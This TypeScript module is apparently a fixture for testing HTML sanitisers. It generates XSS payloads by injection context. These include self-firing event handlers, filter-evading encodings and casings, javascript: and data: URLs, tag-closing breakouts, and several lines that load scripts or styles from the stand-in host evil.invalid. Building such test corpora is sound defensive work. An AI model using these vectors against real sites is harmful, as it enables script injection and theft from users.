/**
 * Where a text would have to be put, unescaped, to become more than a text. `element` is the middle of a page (v-html),
 * `value` a quoted attribute, `address` the target of a link, `decoded` a page that decodes entities once too often, and
 * the others are elements of that name, which end only at their own end.
 */
export type Place = 'element' | 'value' | 'address' | 'decoded' | 'comment' | 'script' | 'style' | 'title' | 'textarea'

/** A text that somebody might write to have it run. It calls `ran()`, or makes an element that carries `ran`. */
export interface Payload {
  readonly text: string
  readonly place: Place
}

const each = (place: Place, texts: readonly string[]): Payload[] => texts.map((text) => ({ text, place }))
const cross = (left: readonly string[], right: readonly string[], join: (one: string, other: string) => string) =>
  left.flatMap((one) => right.map((other) => join(one, other)))

/** Elements with nothing but the mark: short enough for the smallest field. */
const MARKED = [
  ...['a', 'b', 'i', 'p', 'q', 's', 'u', 'dl', 'ol', 'hr', 'div', 'img', 'pre', 'svg', 'math', 'form', 'base', 'link'],
  ...['meta', 'input', 'video', 'audio', 'style', 'table', 'embed', 'script', 'iframe', 'object', 'button', 'dialog'],
  ...['x-ran', 'marquee', 'noembed', 'details', 'textarea', 'template'],
].map((tag) => `<${tag} ran>`)

/** Elements that call by themselves, without anybody touching them. */
const SELF_CALLING = [
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><set onbegin=ran()>',
  '<style onload=ran()></style>',
  '<video src=x onerror=ran()>',
  '<audio src=x onerror=ran()>',
  '<video><source onerror=ran()>',
  '<object data=x onerror=ran()>',
  '<input autofocus onfocus=ran()>',
  '<a id=x tabindex=1 onfocus=ran() autofocus>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<iframe onload=ran()>',
  '<iframe src=javascript:parent.ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;">',
  '<object data="javascript:ran()">',
  '<embed src="javascript:ran()">',
  '<marquee onstart=ran()>',
  '<script>ran()</script>',
  '<script src=//evil.invalid/x.js></script>',
  '<script type=module>ran()</script>',
  '<link rel=stylesheet href=//evil.invalid/x.css ran>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href=//evil.invalid/>',
  '<style ran>*{background:url(//evil.invalid/x)}</style>',
  '<form ran action=javascript:ran()><input type=submit>',
  '<img srcset="x 1x" onerror=ran()>',
  '<picture><source srcset=x><img onerror=ran()>',
]

/** Handlers that wait for somebody: that they stand in the page at all is what must not be. */
const WAITING = cross(
  ['a', 'b', 'p', 'li', 'dd', 'div', 'img', 'svg', 'span', 'input', 'label', 'video'],
  [
    ...['onclick', 'onfocus', 'onblur', 'oninput', 'onkeyup', 'onwheel', 'onscroll', 'onpaste', 'oncopy', 'ondrop'],
    ...['onmouseover', 'ontouchend', 'onchange'],
  ],
  (tag, handler) => `<${tag} ${handler}=ran()>`,
)

/** The same call, spelled so that a search for its usual spelling misses it. */
const SPELLINGS = [
  '<IMG SRC=x ONERROR=ran()>',
  '<iMg SrC=x oNeRrOr=ran()>',
  '<img/src="x"/onerror=ran()>',
  '<img\tsrc=x\tonerror=ran()>',
  '<img\nsrc=x\nonerror=ran()>',
  '<img\fsrc=x\fonerror=ran()>',
  '<img src=x onerror\n=\nran()>',
  '<img src=x onerror="ran()">',
  "<img src=x onerror='ran()'>",
  '<img src=x onerror=&#114;an()>',
  '<img src=x onerror=&#x72;an&lpar;)>',
  '<img src=x onerror=\\u0072an()>',
  '<img src=x onerror=ran``>',
  '<img src=x onerror=ran&#40&#41>',
  '<img src=x onerror=window["r"+"an"]()>',
  '<img src=x onerror=top.ran() //',
  '<<img src=x onerror=ran()>',
  '<img """><img src=x onerror=ran()>"',
  '<img src=x:x onerror=ran()>',
  '<img src="x` `<b>" onerror=ran()>',
  '<b><img src=x onerror=ran()></b',
  '<svg/onload=ran()//',
  '<svg><script>ran()</script>',
  '<svg><script href=data:,ran()></script>',
  '<svg><a href=javascript:ran()><text>x',
  '<svg><animate onbegin=ran() attributeName=x>',
  '<svg><foreignObject><img src=x onerror=ran()>',
  '<math><mtext><style><img src=x onerror=ran()></style>',
  '<math><mi><table><img src=x onerror=ran()>',
  '<math href=javascript:ran()>x',
  '<table><td background=javascript:ran()><img src=x onerror=ran()>',
  '<select><option><img ran></select><img src=x onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<a href="javascript:ran()">x</a>',
  '<a href=java&#9;script:ran()>x</a>',
  '<a href=&#106;avascript:ran()>x</a>',
  '<form><button formaction=javascript:ran()>x',
  '<input type=image src=x onerror=ran()>',
  '<你 onclick=ran()><b ran>',
]

const VALUES = [
  ...cross(
    ['"', "'"],
    ['onclick', 'onfocus', 'onerror', 'onload', 'onmouseover', 'style=x onkeyup'],
    (quote, handler) => `${quote} ${handler}=ran() `,
  ),
  ...cross(
    ['"', "'"],
    ['<b ran>', '<svg onload=ran()>', '<img src=x onerror=ran()>', '<script>ran()</script>'],
    (quote, vector) => `${quote}>${vector}`,
  ),
  '" ran="',
  "' ran='",
  '"autofocus onfocus=ran() x="',
  '"/onclick=ran()/x="',
  '"\nonclick=ran()\nx="',
]

const VECTORS = ['<b ran>', '<img src=x onerror=ran()>', '<svg onload=ran()>']
const closing = (place: Place, ends: readonly string[]): Payload[] =>
  each(
    place,
    cross(ends, VECTORS, (end, vector) => end + vector),
  )

const ADDRESSES = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  '\u0001javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  'javascript\r:ran()',
  'javascript:/*"*/ran()',
  'javascript://x.invalid/%0aran()',
  'javascript:"<b ran>"',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'DATA:text/html,<b ran>',
]

const DECODED = [
  '&lt;img src=x onerror=ran()&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '&#x3c;svg onload=ran()&#x3e;',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&LT;b ran&GT;',
  '&#0060;b ran>',
]

/** Every payload once; all of our own making. */
export const PAYLOADS: readonly Payload[] = [
  ...each('element', [...MARKED, ...SELF_CALLING, ...WAITING, ...SPELLINGS]),
  ...each('value', VALUES),
  ...closing('script', ['</script>', '</SCRIPT\t>', '"}</script>']),
  ...closing('style', ['</style>', '}</StYlE >']),
  ...closing('title', ['</title>', '</TITLE\n>']),
  ...closing('textarea', ['</textarea>', '</TextArea/>']),
  ...closing('comment', ['-->', '--!>']),
  ...each('address', ADDRESSES),
  ...each('decoded', DECODED),
]
